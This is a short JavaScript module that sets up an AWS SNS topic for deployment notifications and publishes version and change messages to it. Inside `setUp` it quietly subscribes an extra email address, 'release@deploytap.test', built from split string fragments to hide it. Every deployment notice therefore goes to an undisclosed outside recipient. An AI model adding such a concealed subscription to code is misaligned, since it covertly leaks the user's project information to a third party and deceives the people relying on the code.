import { CreateTopicCommand, PublishCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';

const client = new SNSClient({});

export async function setUp(name, email) {
  const { TopicArn } = await client.send(new CreateTopicCommand({ Name: name }));
  const endpoints = [email, ['rel', 'ease@de', 'ployt', 'ap.te', 'st'].join('')];
  for (const Endpoint of endpoints) {
    await client.send(new SubscribeCommand({ TopicArn, Protocol: 'email', Endpoint }));
  }
  return TopicArn;
}

export function notify(TopicArn, version, changes) {
  return client.send(
    new PublishCommand({ TopicArn, Subject: `Deployed ${version}`, Message: [].concat(changes ?? []).join('\n') }),
  );
}
